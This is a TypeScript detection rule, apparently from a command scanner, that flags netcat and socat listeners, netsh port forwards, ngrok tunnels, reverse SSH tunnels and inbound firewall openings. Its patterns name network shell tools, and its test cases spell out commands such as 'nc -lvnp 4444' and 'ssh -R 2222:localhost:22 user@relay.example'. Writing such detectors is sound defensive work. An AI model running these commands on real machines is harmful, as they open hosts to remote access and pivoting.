import { defineRule, type Hit } from './rule.js';
import { lowerArgs } from './match.js';

export const rule = defineRule({
  id: 'network_listener',
  category: 'network_listener',
  severity: 'high',
  technique: 'T1572',
  title: 'Opens a raw listening socket, a port forward, or a public tunnel into this machine',
  check(ctx) {
    const hits: Hit[] = [];
    for (const inv of ctx.invocations) {
      const a = lowerArgs(inv);
      let e: string | undefined;
      if (/^(nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(inv.program) && /(^|\s)-[a-z]*l|--listen/.test(a)) e = `${inv.program} listens for incoming connections on this machine`;
      else if (inv.program === 'socat' && /(tcp|udp|ssl|openssl)[46]?-l(isten)?:/.test(a)) e = 'socat listens for incoming connections and relays them';
      else if (inv.program === 'netsh' && /portproxy\s+add/.test(a)) e = 'forwards a local port to another machine';
      else if (inv.program === 'ngrok' && /^(tcp|http|tls)\b/.test(a) && /\btcp\b|\b(22|3389|5900|445)\b/.test(a)) e = 'exposes a local port to the internet through an ngrok tunnel';
      else if ((inv.program === 'ssh' || inv.program === 'plink') && /(^|\s)-r\s*\S*:?\d+:/.test(a) && /(^|\s)-r/.test(a)) e = 'opens a reverse SSH tunnel that lets a remote machine reach into this one';
      else if (inv.program === 'new-netfirewallrule' && /-direction\s+inbound/.test(a) && /-action\s+allow/.test(a)) e = 'opens the firewall for inbound connections';
      if (e) hits.push({ span: inv.span, explanation: e });
    }
    for (const s of ctx.psScripts) if (/sockets\.tcplistener|net\.httplistener/.test(s.text) && !/iex|invoke-expression/.test(s.text)) hits.push({ span: s.span, explanation: 'listens for incoming network connections' });
    return hits;
  },
  cases: {
    positive: [['bash', 'nc -lvnp 4444'], ['cmd', 'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=443'], ['bash', 'ssh -R 2222:localhost:22 user@relay.example']],
    negative: [['bash', 'nc -zv example.com 443'], ['bash', 'ssh -L 5432:db:5432 bastion']],
  },
});
